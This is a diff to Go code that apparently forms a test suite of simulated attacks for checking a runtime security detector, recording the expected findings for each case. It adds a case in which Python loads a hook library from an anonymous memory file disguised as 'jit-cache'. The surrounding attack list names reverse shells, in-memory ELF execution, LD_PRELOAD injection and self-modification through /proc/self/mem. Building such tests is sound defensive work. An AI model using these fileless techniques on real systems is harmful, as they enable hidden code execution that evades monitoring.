@@ -31,6 +31,7 @@ func Attacks() []Attack {
 		{"py-shell", "pyweb", false, "a reverse shell in Python: a child with the socket on 0, 1 and 2", pythonShell},
 		{"py-memfd", "pyweb", false, "a static ELF program runs from a memory file", pythonMemfd},
 		{"py-preload", "pyweb", false, "a child interpreter runs with LD_PRELOAD", pythonPreload},
+		{"py-library", "pyweb", false, "the interpreter loads a library from a memory file", pythonLibrary},
 		{"py-text", "pyweb", false, "the interpreter overwrites its own text through /proc/self/mem", pythonText},
 		{"py-replace", "pyweb", true, "the application's source is replaced", pythonReplace},
 		{"node-inproc", "nodeweb", false, "code runs in Node itself and calls out", nodeInProcess},
@@ -194,6 +195,29 @@ with open("/data/plugins/libaudit.so", "wb") as f:
 os.posix_spawn("/usr/bin/python3.11", ["/usr/bin/python3.11", "-c", CHILD], {**os.environ, "LD_PRELOAD": "/data/plugins/libaudit.so"})
 `
 	code = strings.NewReplacer("DATA", `"`+base64.StdEncoding.EncodeToString(hook)+`"`, "CHILD", quotePython(child)).Replace(code)
+	if err := b.python(ctx, "exec("+quotePython(code)+", {})"); err != nil {
+		return err
+	}
+	return b.called(ctx)
+}
+
+func pythonLibrary(ctx context.Context, b *break_) error {
+	hook, err := b.lab.hook(ctx)
+	if err != nil {
+		return err
+	}
+	b.truth.SHA256 = digest(hook)
+	b.truth.Memfd = "jit-cache"
+	code := `
+import os, base64, ctypes, builtins
+fd = os.memfd_create("jit-cache")
+os.write(fd, base64.b64decode(DATA))
+builtins._lib = ctypes.CDLL("/proc/self/fd/%d" % fd)
+os.close(fd)
+` + strings.ReplaceAll(pythonCall, "MODE", "library") + `
+builtins._keep = s
+`
+	code = strings.ReplaceAll(code, "DATA", `"`+base64.StdEncoding.EncodeToString(hook)+`"`)
 	if err := b.python(ctx, "exec("+quotePython(code)+", {})"); err != nil {
 		return err
 	}
